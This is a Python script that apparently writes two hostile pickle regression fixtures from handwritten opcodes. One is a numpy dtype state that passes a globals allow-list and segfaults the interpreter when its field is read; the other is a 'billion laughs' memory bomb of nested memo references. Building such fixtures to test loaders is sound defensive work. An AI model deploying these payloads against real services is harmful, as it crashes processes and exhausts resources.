"""Write the two hostile `.pkl` regression fixtures from handwritten pickle opcodes (run from this folder).

* `pkl_dtype_state_segv.pkl`: only allow-listed globals (`numpy.dtype`, `_reconstruct`, `numpy.ndarray`); a 1-item array whose dtype
  whose `__setstate__` state declares a field at offset 2**30 inside an 8-byte item (cf. numpy issue 30476).
  Plain `pickle.load` accepts it and reading the field (`a['a']`) segfaults the interpreter.
* `pkl_billion_laughs.pkl`: 20 nested lists, each holding the previous one 10 times through memo references,
  ~10**20 leaves when walked with references expanded.
"""
import pickletools


def s(x: str) -> bytes:
    return b"X" + len(x).to_bytes(4, "little") + x.encode()


def dtype(code: str, state: bytes) -> bytes:
    return b"cnumpy\ndtype\n" + s(code) + b"\x89\x88\x87R" + state + b"b"


def segv() -> bytes:
    f8 = dtype("f8", b"(K\x03" + s("<") + b"NNNJ\xff\xff\xff\xffK\x01K\x00t")
    fields = b"}" + s("a") + f8 + b"J\x00\x00\x00\x40\x86s"
    bad = dtype("f8", b"(K\x03" + s("|") + b"N" + s("a") + b"\x85" + fields + b"K\x08K\x01K\x10t")
    arr = b"cnumpy.core.multiarray\n_reconstruct\ncnumpy\nndarray\nK\x00\x85C\x01b\x87R"
    return b"\x80\x02" + arr + b"(K\x01K\x01\x85" + bad + b"\x89C\x08" + b"\x00" * 8 + b"tb."


def laughs(levels: int = 20, width: int = 10) -> bytes:
    out = b"\x80\x02]" + s("lol") + b"aq\x000"                # memo 0 = ['lol']
    for i in range(1, levels):
        out += b"(" + (b"h" + bytes([i - 1])) * width + b"lq" + bytes([i]) + b"0"
    return out + b"h" + bytes([levels - 1]) + b"."


if __name__ == "__main__":
    for name, data in [("pkl_dtype_state_segv.pkl", segv()), ("pkl_billion_laughs.pkl", laughs())]:
        pickletools.dis(data, out=open("/dev/null", "w"))     # well-formed opcode streams
        open(name, "wb").write(data)
        print(name, len(data), "bytes")
